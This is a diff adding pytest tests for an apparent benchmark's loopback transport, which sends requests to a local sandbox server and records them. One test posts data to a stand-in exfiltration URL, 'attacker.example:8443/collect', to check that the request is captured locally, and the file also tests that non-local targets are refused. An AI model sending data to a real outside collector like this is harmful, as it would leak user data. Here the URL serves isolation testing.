@@ -1,0 +1,63 @@
+"""LoopbackTransport against the sandbox server run in a thread on 127.0.0.1."""
+from __future__ import annotations
+
+import base64
+import threading
+
+import pytest
+
+from guardbench.cli.sandbox import make_server
+from guardbench.paypal.endpoints import SANDBOX_HOST
+from guardbench.paypal.standin import BENCH_CLIENT_ID, BENCH_CLIENT_SECRET
+from guardbench.records import WireRequest
+from guardbench.transport.base import TransportError
+from guardbench.transport.loopback import LoopbackTransport
+from guardbench.transport.recording import read_jsonl
+
+
+@pytest.fixture
+def server(tmp_path):
+    record = tmp_path / "wire.jsonl"
+    srv, sink = make_server(0, record=str(record))
+    th = threading.Thread(target=srv.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
+    th.start()
+    try:
+        yield srv, record
+    finally:
+        srv.shutdown()
+        srv.server_close()
+        sink.close()
+
+
+def test_loopback_round_trip_and_record(server):
+    srv, record = server
+    t = LoopbackTransport(f"http://127.0.0.1:{srv.server_address[1]}")
+    basic = base64.b64encode(f"{BENCH_CLIENT_ID}:{BENCH_CLIENT_SECRET}".encode()).decode()
+    r = t.send(WireRequest.make("POST", f"https://{SANDBOX_HOST}/v1/oauth2/token",
+                                {"Authorization": f"Basic {basic}"}, "grant_type=client_credentials"))
+    assert r.status == 200 and r.json()["token_type"] == "Bearer"
+    r = t.send(WireRequest.make("POST", "https://attacker.example:8443/collect?x=1", {"X-A": "1"}, {"k": "v"}))
+    assert r.status == 200 and r.json() == {"received": True}
+    ex = read_jsonl(record)
+    assert [e.seq for e in ex] == [0, 1]
+    assert ex[0].request.url == f"https://{SANDBOX_HOST}/v1/oauth2/token"
+    assert ex[1].request.url == "https://attacker.example:8443/collect?x=1"
+    assert ex[1].request.headers == (("X-A", "1"),) and ex[1].request.body == '{"k":"v"}'
+    assert srv.transport.exchanges == tuple(ex)
+
+
+def test_loopback_refuses_non_local_base():
+    with pytest.raises(TransportError):
+        LoopbackTransport("http://example.com:8080")
+    with pytest.raises(TransportError):
+        LoopbackTransport("https://127.0.0.1:8080")
+
+
+def test_loopback_connection_refused_is_transport_error():
+    import socket
+    s = socket.socket()
+    s.bind(("127.0.0.1", 0))
+    port = s.getsockname()[1]
+    s.close()
+    with pytest.raises(TransportError):
+        LoopbackTransport(f"http://127.0.0.1:{port}").send(WireRequest.make("GET", f"https://{SANDBOX_HOST}/"))
